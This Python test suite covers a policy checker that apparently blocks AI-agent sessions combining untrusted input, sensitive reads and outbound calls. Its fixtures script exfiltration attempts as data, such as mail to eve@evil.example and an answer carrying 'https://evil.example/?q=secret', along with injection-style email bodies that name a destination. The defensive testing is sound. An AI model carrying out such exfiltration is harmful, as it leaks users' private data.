# SPDX-License-Identifier: Apache-2.0
"""check and replay: the session file, the decisions, what flips, and what a bad line gets."""
import json

from run import Failure, Run, case, put, test

POLICY = """interlock: 1
machine: trifecta
servers:
  t: {trust: inside}
tools:
  - {match: t.fetch, effects: [untrusted]}
  - {match: t.read, effects: [sensitive]}
  - {match: t.send, effects: [egress], sink: once, audience: addressed, to: {email: to}, reads: [body]}
  - {match: t.post, effects: [egress]}
  - {match: t.everything, effects: [commit, egress, secret, untrusted]}
  - {match: own, effects: []}
"""
ASKS = POLICY + "approvals: {expires: 10m}\n"
SEND = {"tool": "t.send", "args": {"to": "eve@evil.example", "body": "x"}, "result": "ok"}
FETCH, READ, POST = {"tool": "t.fetch", "result": "x"}, {"tool": "t.read", "result": "y"}, {"tool": "t.post"}


def sessions(*lines):
    return "".join(json.dumps(line) + "\n" for line in lines)


def decide(t, *lines, policy=POLICY, code=1, command="check"):
    """The printed objects of the sessions, and the summary."""
    run = Run(command, "--policy", put(t, "policy.yaml", policy), "--json", stdin=sessions(*lines)).exits(code)
    printed = [json.loads(line) for line in run.out.splitlines()]
    return printed[:-1], printed[-1]["summary"]


def actions(session):
    return [(d["action"], d["layer"], d["reason"]) for d in session["decisions"]]


def same(got, want):
    if got != want:
        raise Failure(f"got  {got!r}\nwant {want!r}")


ALLOW = ("allow", None, None)
TRIFECTA = ("block", "machine", "lethal-trifecta")


@test
def check_prints_the_members_in_their_order(t):
    run = Run("check", "--policy", put(t, "policy.yaml", POLICY), "--json", stdin=sessions({"id": "a", "steps": [FETCH, {"tool": "none"}]})).exits(1)
    same(run.out.splitlines()[0], '{"id":"a","decisions":[{"step":1,"tool":"t.fetch","effects":["untrusted"],"action":"allow","layer":null,"reason":null},'
         '{"step":2,"tool":"none","effects":[],"action":"block","layer":"labeller","reason":"unlabelled-tool"}]}')


@test
def check_places_a_duplicate_key_in_the_file(t):
    lines = '{"steps":[]}\n{"steps":[{"tool":"t.fetch","args":{"a":1,"a":2}}]}\n'
    run = Run("check", "--policy", put(t, "policy.yaml", POLICY), put(t, "s.ndjson", lines)).exits(3)
    run.says("s.ndjson:2:43: error: duplicate key `a`, first at column 37")


@test
def check_refuses_a_file_without_a_session(t):
    policy, some = put(t, "policy.yaml", POLICY), put(t, "some.ndjson", '{"steps":[]}\n')
    for text in ("", "\n \n\r\n"):
        empty = put(t, "empty.ndjson", text)
        Run("check", "--policy", policy, stdin=text).refuses().says("<stdin>: error: no session in it")
        Run("check", "--policy", policy, "--json", empty).refuses().says("empty.ndjson: error: no session in it")
        Run("replay", "--policy", policy, "--against", policy, empty).refuses().says("no session in it")
        Run("check", "--policy", policy, some, empty).exits(3).says("empty.ndjson: error: no session in it")
    Run("check", "--policy", policy, some).exits(0)  # a session without a step is one


@test
def check_counts_what_it_decided(t):
    _, summary = decide(t, {"steps": [FETCH, READ, POST]}, {"steps": [{"tool": "own"}]})
    same(summary, {"sessions": 2, "steps": 4, "block": 1, "require_approval": 0, "allow": 3})


@test
def check_orders_effects_as_the_design_does(t):
    (session,), _ = decide(t, {"steps": [{"tool": "t.everything"}]})
    same(session["decisions"][0]["effects"], ["untrusted", "sensitive", "secret", "egress", "commit"])


@test
def check_ids_are_line_numbers_unless_given(t):
    run = Run("check", "--policy", put(t, "policy.yaml", POLICY), "--json", stdin='{"steps":[]}\n\n{"id":"x","steps":[]}\n{"steps":[],"id":null}\n').exits(0)
    same([json.loads(line).get("id") for line in run.out.splitlines()[:-1]], [1, "x", 4])


@test
def check_ignores_members_that_it_does_not_know(t):
    decide(t, {"id": "a", "goal": {"b": [1]}, "prompt": "do it", "steps": [{**FETCH, "origin": "user", "seen": None}]}, code=0)


@test
def check_sessions_are_apart(t):
    printed, _ = decide(t, {"steps": [FETCH, READ]}, {"steps": [POST]}, code=0)
    same([actions(s) for s in printed], [[ALLOW, ALLOW], [ALLOW]])


@test
def check_joins_a_parent(t):
    printed, _ = decide(t, {"id": "p", "steps": [FETCH, READ]}, {"id": "c", "parent": "p", "steps": [POST]}, {"id": "d", "steps": [POST]})
    same([actions(s) for s in printed[1:]], [[TRIFECTA], [ALLOW]])


@test
def check_a_step_that_is_not_allowed_does_not_run(t):
    # Had the refused post opened its way out, the second read would be refused as well.
    (session,), _ = decide(t, {"steps": [FETCH, READ, POST, READ]})
    same(actions(session), [ALLOW, ALLOW, TRIFECTA, ALLOW])


@test
def check_an_open_way_out_stays_open(t):
    (session,), _ = decide(t, {"steps": [POST, FETCH, READ]})
    same(actions(session), [ALLOW, ALLOW, TRIFECTA])


@test
def check_a_once_sink_is_over_when_it_settles(t):
    (session,), _ = decide(t, {"steps": [SEND, FETCH, READ]}, code=0)
    same(actions(session), [ALLOW, ALLOW, ALLOW])


LABELLED = POLICY + """sources: {kb: trusted}
groups: {ops: [ana]}
rules:
  - {name: web, tools: own, when: '"web" in run.untrusted_sources', then: block}
  - {name: raw, tools: t.post, when: 'prov.body.trust == "untrusted" && !endorsed(args.body, "legal")', then: block}
  - {name: ops, tools: t.fetch, when: '!("ops" in agent.groups)', then: block}
"""


@test
def check_labels_say_where_arguments_come_from(t):
    post = {"tool": "t.post", "args": {"body": "x"}}
    own = {"tool": "own", "args": {"a": ["x", "y"]}}
    by_web, by_both = {"labels": {"/body": "web"}}, {"labels": {"/body": {"sources": ["kb", "web"], "agents": ["bo"], "endorsed": "legal"}}}
    printed, _ = decide(t, {"agent": "ana", "steps": [own, {**post, "labels": {"/body": "kb"}}, {**own, "labels": {"/a/1": "kb"}}, own, {**post, **by_web}, own]},
                        {"steps": [{**post, **by_both}, {**post, **by_web}]}, {"steps": [FETCH]}, {"agent": "ana", "steps": [FETCH]}, policy=LABELLED)
    web, raw = ("block", "rule", "web"), ("block", "rule", "raw")
    # the blocked step's value was taken in all the same
    same(actions(printed[0]), [ALLOW, ALLOW, ALLOW, ALLOW, raw, web])
    same(actions(printed[1]), [ALLOW, raw])
    same([actions(s) for s in printed[2:]], [[("block", "rule", "ops")], [ALLOW]])


@test
def check_an_approved_step_passes_once(t):
    steps = [FETCH, READ, {**SEND, "approved": True}, SEND]
    (session,), summary = decide(t, {"steps": steps}, policy=ASKS)
    same(actions(session), [ALLOW, ALLOW, ALLOW, ("require_approval", "machine", "lethal-trifecta")])
    same(summary["require_approval"], 1)


@test
def check_an_approval_releases_nothing_that_is_final(t):
    (session,), _ = decide(t, {"steps": [FETCH, READ, {**POST, "approved": True}]}, policy=ASKS)
    same(actions(session)[2], TRIFECTA)
    (session,), _ = decide(t, {"steps": [FETCH, READ, {**SEND, "approved": True}]})  # a policy without approvals
    same(actions(session)[2], TRIFECTA)


@test
def check_an_error_counts_as_the_worst_case(t):
    (session,), _ = decide(t, {"steps": [{"tool": "t.fetch", "error": "timed out"}, {"tool": "t.read", "error": {"code": 1}}, POST]})
    same(actions(session)[2], TRIFECTA)


@test
def check_judges_a_monitor_policy_as_in_enforce(t):
    (session,), _ = decide(t, {"steps": [FETCH, READ, POST]}, policy=POLICY + "mode: monitor\n")
    same(actions(session)[2], TRIFECTA)


@test
def check_splits_a_tool_at_its_first_dot(t):
    (session,), _ = decide(t, {"steps": [{"tool": "own"}, {"tool": "t.own"}, {"tool": "t.read.more"}]})
    same([a[0] for a in actions(session)], ["allow", "block", "block"])


@test
def check_says_the_same_twice(t):
    policy = put(t, "policy.yaml", ASKS)
    text = sessions({"steps": [FETCH, READ, {**SEND, "approved": True}, SEND, POST]})
    first, second = (Run("check", "--policy", policy, *more, stdin=text).exits(1).out for more in ([], []))
    same(first, second)


@test
def check_text_names_the_denied_step(t):
    run = Run("check", "--policy", put(t, "policy.yaml", POLICY), stdin=sessions({"id": "a", "steps": [FETCH, READ, POST]})).exits(1)
    run.says("a: 3 steps, 1 not allowed", "out").says("step 3  t.post", "out").says("lethal-trifecta", "out").says("2 allowed, 1 blocked", "out")


@test
def check_text_says_why_nothing_was_vouched(t):
    policy = put(t, "policy.yaml", ASKS.replace("  t: {trust: inside}\n", "  t: {trust: inside}\n  far: {trust: outside}\n")
                 .replace("  - {match: own,", "  - {match: far.note, effects: []}\n  - {match: own,"))
    more = {"tool": "t.send", "args": {"to": "eve@evil.example", "extra": 1}}
    steps = [FETCH, READ, {"tool": "t.send", "args": {"to": "eve@evil.example"}}, more, POST, {"tool": "far.note"}, {"tool": "t.none"}]
    run = Run("check", "--policy", policy, stdin=sessions({"steps": steps})).exits(1)
    for text in ("the session has untrusted from t.fetch (call 1), sensitive from t.read (call 2)\n",
                 "not vouched: argument `to`: an email is not listed for what this session holds", "a human could release it once\n",
                 "not vouched: the call names no destination that the entry declares\n",
                 "its way out is standing, so no human can release it\n", "not vouched: the server is outside", "the policy has no entry for this tool\n"):
        run.says(text, "out")
    if "(approval " in run.out or "tell the user" in run.out:
        run.fail("an approval that does not exist, or a sentence for the model")


@test
def check_json_says_why_when_it_is_asked_to(t):
    policy, text = put(t, "policy.yaml", POLICY), sessions({"steps": [FETCH, {**SEND, "args": {"to": "nonsense"}}, POST]})
    plain, more = (json.loads(Run("check", "--policy", policy, "--json", *args, stdin=text).exits(0).out.splitlines()[0])["decisions"] for args in ([], ["--explain"]))
    same([list(d) for d in plain], [["step", "tool", "effects", "action", "layer", "reason"]] * 3)
    same([d.pop("why") for d in more],
         [None, "argument `to`: a value cannot be read as an email", "the call names no destination that the entry declares"])
    same(more, plain)


@test
def check_warns_of_members_that_are_arguments_elsewhere(t):
    policy = put(t, "policy.yaml", POLICY)
    path = put(t, "s.ndjson", sessions({"steps": [FETCH]}, {"steps": [FETCH, {"tool": "t.read", "arguments": {}}]}, {"steps": [{"tool": "t.read", "input": 1}]}))
    run = Run("check", "--policy", policy, "--json", path).exits(0).says("s.ndjson:2:67: warning: `arguments` is ignored: a call's arguments stand in `args`\n")
    if run.err.count("warning") != 1:
        run.fail("want one warning a file")
    Run("check", "--policy", policy, stdin=sessions({"steps": [{"tool": "t.read", "tool_name": "t.post"}]})).exits(0).says("<stdin>:1:").says("`tool`")
    same(Run("check", "--policy", policy, stdin=sessions({"steps": [{**FETCH, "note": 1}]})).exits(0).err, "")


@test
def check_text_cannot_drive_a_terminal(t):
    run = Run("check", "--policy", put(t, "policy.yaml", POLICY), stdin=sessions({"id": "\x1b[31m\u202e\u009b", "steps": [{"tool": "a\x1b]0;b\x07"}]}))
    run.exits(1).says("\\u{1b}[31m\\u{202e}\\u{9b}", "out").says("a\\u{1b}]0;b\\u{7}", "out")
    if any(c in run.out for c in "\x1b\x07\u202e\u009b"):
        run.fail("a control character on a terminal")


@test
def check_takes_several_files_each_a_world(t):
    policy = put(t, "policy.yaml", POLICY)
    one, two = put(t, "1.ndjson", sessions({"steps": [FETCH]})), put(t, "2.ndjson", sessions({"steps": [READ, POST]}))
    run = Run("check", "--policy", policy, "--json", one, two).exits(0)
    same([json.loads(line).get("id") for line in run.out.splitlines()], [1, 1, None])
    Run("check", "--policy", policy, put(t, "3.ndjson", sessions({"id": "p", "steps": []})), put(t, "4.ndjson", sessions({"parent": "p", "steps": []}))).exits(3)


@test
def check_needs_a_policy(_):
    Run("check").refuses().says("--policy")


@test
def check_reports_a_full_disk(t):
    import subprocess
    from run import HANG, INTERLOCK
    with open("/dev/full", "w", encoding="utf-8") as full:
        done = subprocess.run([INTERLOCK, "check", "--policy", put(t, "policy.yaml", POLICY)], input=sessions({"steps": [FETCH]}).encode(), stdout=full,
                              stderr=subprocess.PIPE, timeout=HANG, check=False)
    if done.returncode != 5 or b"cannot write" not in done.stderr:
        raise Failure(f"exit {done.returncode}, {done.stderr!r}")


# A bad line: its position in the file, exit 3, and what came before stays whole.
BAD = {  # name: (line, position of the error, words)
    "is cut short": ('{"steps":[{"tool":"t.read"}', "2:28", "text ends"),
    "is no object": ("[1]", "2:1", "object"),
    "has a key twice": ('{"steps":[],"steps":[]}', "2:13", "steps"),
    "has no steps": ('{"id":"b"}', "2:1", "steps"),
    "has steps that are no list": ('{"steps":{}}', "2:10", "steps"),
    "has a step without a tool": ('{"steps":[{"args":{}}]}', "2:11", "tool"),
    "has a tool that is no text": ('{"steps":[{"tool":5}]}', "2:19", "tool"),
    "has arguments that are no object": ('{"steps":[{"tool":"t.read","args":[]}]}', "2:35", "args"),
    "has an approval that is no bool": ('{"steps":[{"tool":"t.read","approved":"yes"}]}', "2:39", "approved"),
    "has an agent that is no name": ('{"agent":"a b","steps":[]}', "2:10", "agent"),
    "has labels that are no map": ('{"steps":[{"tool":"t.read","labels":["web"]}]}', "2:37", "labels"),
    "has a label of nothing": ('{"steps":[{"tool":"t.read","args":{"a":[1]},"labels":{"/a/1":"web"}}]}', "2:55", "/a/1"),
    "has a label with another key": ('{"steps":[{"tool":"t.read","args":{"a":1},"labels":{"/a":{"source":"web"}}}]}', "2:59", "sources"),
    "has a label of a name that is none": ('{"steps":[{"tool":"t.read","args":{"a":1},"labels":{"/a":""}}]}', "2:58", "name"),
    "has a label of no kind": ('{"steps":[{"tool":"t.read","args":{"a":1},"labels":{"/a":{"endorsed":["a b"]}}}]}', "2:71", "endorsed"),
    "has an id twice": ('{"id":"a","steps":[]}', "2:7", "line 1"),
    "has the id of a line": ('{"id":1,"steps":[]}', "2:7", "line 1"),
    "has a parent that comes later": ('{"parent":"z","steps":[]}', "2:11", "`z`"),
    "is its own parent": ('{"id":"s","parent":"s","steps":[]}', "2:20", "`s`"),
    "has a prompt that is no text": ('{"prompt":[],"steps":[]}', "2:11", "prompt"),
    "has bad UTF-8": (b'{"id":"\xff","steps":[]}', "2:8", "utf-8"),
    "has text behind it": ('{"steps":[]} {}', "2:14", ""),
    "has a NUL": (b'{"steps":[]\x00}', "2:12", ""),
}


def bad_line(t, line, position, words):
    first = '{"id":"a","steps":[]}\n' if "1,\"steps" not in str(line) else '{"steps":[]}\n'
    text = first.encode() + (line if isinstance(line, bytes) else line.encode()) + b'\n{"steps":[]}\n'
    path = put(t, "s.ndjson", text)
    run = Run("check", "--policy", put(t, "policy.yaml", POLICY), "--json", path).exits(3)
    run.says(f"s.ndjson:{position}: error: ").says(words)
    printed = [json.loads(one) for one in run.out.splitlines()]
    if len(printed) != 1 or printed[0]["decisions"] != [] or not run.out.endswith("\n"):
        run.fail("want the first session's line, and no summary")


for _name, (_line, _position, _words) in BAD.items():
    case(f"check: a line that {_name}", lambda t, l=_line, p=_position, w=_words: bad_line(t, l, p, w))


@test
def check_session_files_that_cannot_be_read(t):
    policy = put(t, "policy.yaml", POLICY)
    Run("check", "--policy", policy, str(t / "none.ndjson")).refuses().says("none.ndjson")
    Run("check", "--policy", policy, str(t)).exits(3)


@test
def check_a_file_of_binary_junk(t):
    Run("check", "--policy", put(t, "policy.yaml", POLICY), put(t, "s.ndjson", bytes(range(256)) * 4000)).exits(3)


# --- replay ---------------------------------------------------------------------------------------
def flips(t, *lines, code=1):
    loose = put(t, "loose.yaml", POLICY.replace("t.read, effects: [sensitive]", "t.read, effects: []"))
    tight = put(t, "tight.yaml", POLICY)
    printed = []
    for pair in ((tight, loose), (loose, tight)):
        run = Run("replay", "--policy", pair[0], "--against", pair[1], "--json", stdin=sessions(*lines)).exits(code)
        printed.append([json.loads(line) for line in run.out.splitlines()])
    return printed


@test
def replay_shows_flips_both_ways(t):
    to_allow, from_allow = flips(t, {"id": "a", "steps": [FETCH, READ, POST]})
    step = to_allow[0]["flips"]
    same([(f["step"], f["tool"], f["policy"]["action"], f["against"]["action"]) for f in step], [(3, "t.post", "block", "allow")])
    same((to_allow[1]["summary"]["to_allow"], to_allow[1]["summary"]["from_allow"]), (1, 0))
    same([(f["step"], f["policy"]["action"], f["against"]["action"], f["against"]["reason"]) for f in from_allow[0]["flips"]],
         [(3, "allow", "block", "lethal-trifecta")])
    same((from_allow[1]["summary"]["to_allow"], from_allow[1]["summary"]["from_allow"]), (0, 1))


@test
def replay_text_counts_flips(t):
    loose, tight = put(t, "loose.yaml", POLICY.replace("t.read, effects: [sensitive]", "t.read, effects: []")), put(t, "tight.yaml", POLICY)
    Run("replay", "--policy", tight, "--against", loose, stdin=sessions({"id": "a", "steps": [FETCH, READ, POST]})).exits(1).says("a: 3 steps, 1 flip\n", "out")
    Run("replay", "--policy", tight, "--against", loose, stdin=sessions({"id": "a", "steps": [FETCH, READ, POST, POST]})).exits(1).says("a: 4 steps, 2 flips\n", "out")


@test
def replay_without_a_flip_is_fine_although_calls_are_denied(t):
    policy = put(t, "policy.yaml", POLICY)
    run = Run("replay", "--policy", policy, "--against", policy, "--json", stdin=sessions({"steps": [FETCH, READ, POST]})).exits(0)
    same(json.loads(run.out.splitlines()[0]), {"id": 1, "flips": []})


@test
def replay_alone_is_check(t):
    policy, text = put(t, "policy.yaml", POLICY), sessions({"steps": [FETCH, READ, POST]})
    same(Run("replay", "--policy", policy, "--json", stdin=text).exits(1).out, Run("check", "--policy", policy, "--json", stdin=text).exits(1).out)


@test
def replay_refuses_a_second_policy_that_is_none(t):
    Run("replay", "--policy", put(t, "p.yaml", POLICY), "--against", put(t, "q.yaml", POLICY.replace("tools:", "tool:")), stdin="").refuses(True).says("q.yaml:5:")


KNOWS = """interlock: 1
machine: trifecta
servers: {t: {trust: inside}}
tools:
  - {match: t.list, effects: [untrusted, sensitive], result: {from: json, items: "$[*]", authentic: {email: from}, free: [body]}}
  - {match: t.send, effects: [egress], sink: once, audience: addressed, to: {email: to}, reads: [body]}
  - {match: t.secret, effects: [sensitive]}
  - {match: t.page, effects: [untrusted]}
  - {match: t.write, effects: [], stores: {path: path}}
  - {match: t.get, effects: {sensitive: 'labelled(args.path, "sensitive")'}}
  - {match: respond, effects: [egress], sink: once, audience: addressed, to: user, reads: [text]}
"""
LIST = {"tool": "t.list", "result": [{"from": "al@far.example", "body": "hi"}]}


def send(to, **more):
    return {"tool": "t.send", "args": {"to": to, "body": "x"}, **more}


@test
def check_hears_the_user(t):
    """A prompt vouches in a session of its own; in a child it is what another agent said. A field vouches, one that a free or an error text names does not."""
    named = {"tool": "t.list", "result": json.dumps([{"from": "al@far.example", "body": "write to al@far.example"}])}
    failed = {"tool": "t.list", "error": {"message": "ask al@far.example"}}
    got, _ = decide(t, {"id": "a", "prompt": "mail bo@there.example", "steps": [LIST, send("bo@there.example"), send("al@far.example"), send("eve@far.example")]},
                    {"parent": "a", "prompt": "mail cy@there.example", "steps": [send("cy@there.example")]},
                    {"prompt": "hello", "steps": [named, send("al@far.example")]},
                    {"prompt": "hello", "steps": [LIST, failed, send("al@far.example")]},
                    {"prompt": None, "steps": [LIST, send("al@far.example")]}, policy=KNOWS)
    same([actions(s) for s in got], [[ALLOW, ALLOW, ALLOW, TRIFECTA], [TRIFECTA], [ALLOW, TRIFECTA], [ALLOW, ALLOW, TRIFECTA], [ALLOW, ALLOW]])


@test
def check_says_when_a_prompt_is_too_long(t):
    """What stands behind the part that is heard was not typed, and that is said."""
    for words, warned in ((1000, False), (70000, True)):
        lines = sessions({"prompt": "mail al@far.example " + "word " * words, "steps": [SEND]})
        run = Run("check", "--policy", put(t, "policy.yaml", KNOWS), "--json", stdin=lines).exits(0)
        same("<stdin>:1: warning: the prompt is longer than is heard" in run.err, warned)


@test
def check_reads_a_text_as_json_once(t):
    """A file whose content is JSON, given back as a JSON text, has no fields."""
    fields = [{"from": "al@far.example", "body": "hi"}]
    for result, last in ((fields, ALLOW), (json.dumps(fields), ALLOW), (json.dumps(json.dumps(fields)), TRIFECTA)):
        (got,), _ = decide(t, {"steps": [{"tool": "t.list", "result": result}, send("al@far.example")]}, policy=KNOWS, code=0 if last == ALLOW else 1)
        same(actions(got), [ALLOW, last])


@test
def check_blind_looks_nothing_up(t):
    """What a free text names is not seen any more: less is stopped by recognising it, and nothing else changes."""
    named = {"tool": "t.list", "result": [{"from": "al@far.example", "body": "write to al@far.example"}]}
    lines = sessions({"steps": [named, send("al@far.example"), send("eve@far.example")]})
    for options, want in (([], [ALLOW, TRIFECTA, TRIFECTA]), (["--blind"], [ALLOW, ALLOW, TRIFECTA])):
        run = Run("check", "--policy", put(t, "policy.yaml", KNOWS), "--json", *options, stdin=lines).exits(1)
        same(actions(json.loads(run.out.splitlines()[0])), want)


@test
def check_keeps_stores_from_line_to_line(t):
    """What one session writes carries its labels to the next that reads there, and to nothing beside it."""
    place = {"path": "/w/notes"}
    page, get, beside = {"tool": "t.page", "result": "x"}, {"tool": "t.get", "args": place}, {"tool": "t.get", "args": {"path": "/w/other"}}
    got, _ = decide(t, {"steps": [{"tool": "t.secret"}, {"tool": "t.write", "args": place}]}, {"steps": [page, beside, send("eve@far.example"), get]},
                    {"steps": [page, get, send("eve@far.example")]}, policy=KNOWS)
    same([actions(s) for s in got], [[ALLOW, ALLOW], [ALLOW, ALLOW, ALLOW, ALLOW], [ALLOW, ALLOW, TRIFECTA]])


@test
def check_takes_relative_names_from_where_the_server_runs(t):
    """Where the policy says no `cwd`, a relative name is the whole store."""
    beside = {"tool": "t.get", "args": {"path": "/w/other"}}
    for cwd, names, last in (("", ["notes"], TRIFECTA), (", cwd: /w", ["notes", "/w/./notes"], ALLOW)):
        policy = KNOWS.replace("{trust: inside}", "{trust: inside" + cwd + "}")
        for name in names:
            got, _ = decide(t, {"steps": [{"tool": "t.secret"}, {"tool": "t.write", "args": {"path": name}}]},
                            {"steps": [FETCH | {"tool": "t.page"}, beside, send("eve@far.example")]},
                            {"steps": [FETCH | {"tool": "t.page"}, {"tool": "t.get", "args": {"path": "notes"}}, send("eve@far.example")]}, policy=policy)
            same([actions(s)[-1] for s in got], [ALLOW, last, TRIFECTA])


@test
def check_writes_somewhere_without_a_name(t):
    """A call, or an item of it, that names no place writes where its tool writes by itself: in the server's folder, else anywhere in the store."""
    for cwd, there, beside in (("", TRIFECTA, TRIFECTA), (", cwd: /w", TRIFECTA, ALLOW)):
        policy = KNOWS.replace("{trust: inside}", "{trust: inside" + cwd + "}").replace("{path: path}", '{path: [path, "files[*].at", "files[*].to"]}')
        for args in ({}, {"path": None}, {"path": ""}, {"path": []}, {"files": []}, {"files": [{"at": "/v/x", "to": "/v/y"}, {}]}, {"files": [{"at": None}, {"to": "/v/z"}]}):
            got, _ = decide(t, {"steps": [{"tool": "t.secret"}, {"tool": "t.write", "args": args}]},
                            {"steps": [FETCH | {"tool": "t.page"}, {"tool": "t.get", "args": {"path": "/w/a/b"}}, send("eve@far.example")]},
                            {"steps": [FETCH | {"tool": "t.page"}, {"tool": "t.get", "args": {"path": "/v/a"}}, send("eve@far.example")]}, policy=policy)
            same([actions(s)[-1] for s in got], [ALLOW, there, beside])


@test
def check_labels_the_places_that_are_named_and_no_other(t):
    """By one of two arguments, by items that name one each, by two entries for one tool: nothing else is labelled."""
    policy = (KNOWS.replace("{path: path}", '{path: [path, destination, "files[*].at", "files[*].to"]}')
              + "  - {match: 't.writ*', effects: [], stores: {path: [path, destination, 'files[*].at', 'files[*].to']}, plain: x}\n").replace("match: t.write", "match: 't.*rite'")
    for args in ({"path": "/w/a"}, {"destination": "/w/a", "path": None}, {"files": [{"at": "/w/a"}, {"to": "/w/b"}]}, {"path": ["/w/a", "/w/b"]}):
        got, _ = decide(t, {"steps": [{"tool": "t.secret"}, {"tool": "t.write", "args": args}]},
                        {"steps": [FETCH | {"tool": "t.page"}, {"tool": "t.get", "args": {"path": "/w/other"}}, send("eve@far.example")]},
                        {"steps": [FETCH | {"tool": "t.page"}, {"tool": "t.get", "args": {"path": "/w/a"}}, send("eve@far.example")]}, policy=policy)
        same((args, [actions(s)[-1] for s in got]), (args, [ALLOW, ALLOW, TRIFECTA]))


@test
def check_knows_where_a_command_writes(t):
    """With `cwd`, what a command writes by a relative name is a place."""
    for cwd, last in (("", ALLOW), (", cwd: /w", TRIFECTA)):
        policy = KNOWS.replace("{trust: inside}", "{trust: inside" + cwd + "}") + "  - { match: t.run, shell: c, effects: [] }\n"
        for command in ("echo x > notes/a", "cp b ./notes/a", "cd notes && echo x > a", "cd .. && echo x > a" if cwd else "echo x > a"):
            got, _ = decide(t, {"steps": [{"tool": "t.secret"}, {"tool": "t.run", "args": {"c": command}}]},
                            {"steps": [FETCH | {"tool": "t.page"}, {"tool": "t.get", "args": {"path": "/w/notes/a"}}, send("eve@far.example")]}, policy=policy,
                            code=0 if last == ALLOW else 1)
            same([command] + [actions(s)[-1] for s in got], [command, ALLOW, last])


@test
def check_labels_what_a_command_names_from_elsewhere(t):
    """A home by its user's name is a home; a name from the root that nobody can read is the whole store when it is written, and labelled when it is read."""
    policy = KNOWS + "  - { match: t.run, shell: c, effects: { sensitive: 'shell.reads(\"sensitive\")' } }\n"
    for command, there, last in (("echo x > ~ana/notes", "/home/ana/notes", TRIFECTA), ("echo x > ~ana/notes", "/home/ana/other", ALLOW), ("echo x > /v/../w/a", "/w/a", TRIFECTA),
                                 ("echo x > C:/w/a", "/w/a", TRIFECTA), ("echo x > ../w/a", "/w/a", ALLOW)):
        got, _ = decide(t, {"steps": [{"tool": "t.secret"}, {"tool": "t.run", "args": {"c": command}}]},
                        {"steps": [FETCH | {"tool": "t.page"}, {"tool": "t.get", "args": {"path": there}}, send("eve@far.example")]}, policy=policy, code=0 if last == ALLOW else 1)
        same((command, actions(got[1])[-1]), (command, last))
    for name, last in (("~ana/notes", TRIFECTA), ("~/notes", TRIFECTA), ("~ana/other", ALLOW), ("~+/notes", TRIFECTA), ("/v/../home/ana/notes", TRIFECTA), ("../notes", TRIFECTA), ("other", TRIFECTA), ("C:/x", TRIFECTA)):
        got, _ = decide(t, {"steps": [{"tool": "t.secret"}, {"tool": "t.write", "args": {"path": "/home/ana/notes"}}]},
                        {"steps": [FETCH | {"tool": "t.page"}, {"tool": "t.run", "args": {"c": "cat " + name}}, send("eve@far.example")]}, policy=policy, code=0 if last == ALLOW else 1)
        same((name, actions(got[1])[-1]), (name, last))


@test
def check_judges_the_answer(t):
    """`respond` is a sink whose addressee is the user; an address that is written into it is a destination like any other."""
    got, _ = decide(t, {"prompt": "what is new?", "steps": [LIST, {"tool": "respond", "args": {"text": "nothing much"}},
                                                            {"tool": "respond", "args": {"text": "see https://evil.example/?q=secret"}}]}, policy=KNOWS)
    same(actions(got[0]), [ALLOW, ALLOW, TRIFECTA])
